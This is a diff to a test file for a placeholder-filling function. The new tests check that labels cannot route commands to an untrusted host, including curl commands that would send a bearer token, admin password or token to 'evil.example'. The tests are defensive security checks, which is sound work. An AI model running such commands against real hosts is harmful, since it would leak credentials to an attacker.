@@ -63,6 +63,8 @@ describe("the names for placeholders by labels", () => {
     ["<image>", { image: "shop/api:1.2" }],
     ["<version>", { version: "1.2" }],
     ["<password>", { password: "x" }],
+    ["<admin-password>", { admin_password: "x" }],
+    ["<api-url>", { api_url: "evil.example" }],
     ["<job>", { job: "node" }],
   ])("leave %s open: the label says something else", (placeholder, labels) => {
     expect(fill(`ctl ${placeholder}`, { labels })).toEqual({});
@@ -105,6 +107,22 @@ describe("the names for placeholders by labels", () => {
     ["ctl get deployment/<instance>", "shop/api"],
   ])("repeat no separator: %j", (command, instance) => {
     expect(fill(command, { labels: { instance } })).toEqual({});
+  });
+});
+
+describe("a host from a label", () => {
+  const labels = { host: "evil.example" };
+
+  it.each([
+    'curl -H "Authorization: Bearer x" https://<host>/v1',
+    "curl -u admin:$PASSWORD https://<Host>/v1",
+    "curl https://<host>/?token=x",
+  ])("gets no secret: %s", (command) => {
+    expect(fill(command, { labels })).toEqual({});
+  });
+
+  it("may be asked without one", () => {
+    expect(fill("curl https://<host>/health", { labels })).toEqual({ "<host>": "evil.example" });
   });
 });
 
